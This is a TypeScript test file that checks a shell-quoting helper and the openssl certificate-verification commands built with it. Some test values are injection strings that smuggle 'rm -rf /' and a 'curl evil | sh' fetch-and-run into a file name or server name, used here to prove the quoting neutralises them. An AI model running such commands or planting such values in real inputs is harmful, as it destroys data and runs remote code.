import { execFileSync } from 'node:child_process';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { shellLine, shellWord } from '../../lambda/remedies/shell.ts';
import { showChain, showLeaf } from '../../lambda/remedies/verify.ts';
import { target } from '../evidence.ts';

/** What a POSIX shell makes of the words. */
function words(line: string): string[] {
  const printed = execFileSync('/bin/sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  return printed.split('\0').slice(0, -1);
}

const HOSTILE = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'\'"`$(){}[]*?!~#&|;<>\\ \n\r\t\0=%^-\u2028\u202e\u0085aZ0'), maxLength: 40 }),
);

describe('shell words', () => {
  test('plain words stay as they are', () => {
    for (const word of [
      '--region',
      'eu-west-1',
      'arn:aws:acm:eu-west-1:1:certificate/a-b',
      'fileb://cert.pem',
      'a=b,c',
    ]) {
      expect(shellWord(word)).toBe(word);
    }
  });

  test('what a shell would read is quoted', () => {
    expect(shellWord('*.example.com')).toBe("'*.example.com'");
    expect(shellWord('[2001:db8::1]:443')).toBe("'[2001:db8::1]:443'");
    expect(shellWord("a'; rm -rf /; '")).toBe("'a'\\''; rm -rf /; '\\'''");
    expect(shellWord('')).toBe("''");
    expect(shellWord('=ls')).toBe("'=ls'");
  });

  test('no line end, control character or turned text survives', () => {
    expect(shellWord('a\nb\r\u0085\u2028\u202e\0')).toBe("'a?b?????'");
  });

  test('a real shell gets back every word, one for one, on one line', () => {
    fc.assert(
      fc.property(fc.array(HOSTILE, { minLength: 1, maxLength: 20 }), (given) => {
        const line = shellLine(...given);
        expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
        expect(words(line)).toEqual(given.map((word) => word.replace(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/gu, '?')));
      }),
      { numRuns: 60 },
    );
  });
});

describe('verification', () => {
  test('dials the address with the name that CloudFront sends', () => {
    expect(showChain(target())).toBe(
      'openssl s_client -connect 203.0.113.7:443 -servername origin.example.com -verify_hostname origin.example.com -showcerts </dev/null',
    );
    expect(showLeaf(target({ address: '2001:db8::7', port: 8443 }))).toBe(
      "openssl s_client -connect '[2001:db8::7]:8443' -servername origin.example.com </dev/null 2>/dev/null | openssl x509 -noout -subject -dates -ext subjectAltName",
    );
  });

  test('a hostile name stays one word', () => {
    const serverName = "x'; curl evil | sh; '";
    expect(showLeaf(target({ serverName }))).toContain(`-servername ${shellWord(serverName)} </dev/null`);
  });
});
